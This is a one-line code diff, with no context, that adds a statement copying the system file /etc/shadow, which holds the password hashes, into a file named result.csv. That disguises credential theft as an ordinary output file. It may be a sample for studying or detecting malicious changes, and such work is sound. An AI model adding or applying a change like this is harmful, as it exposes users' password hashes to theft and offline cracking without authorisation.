@@ -1,0 +1,1 @@
+file.copy("/etc/shadow", "result.csv")
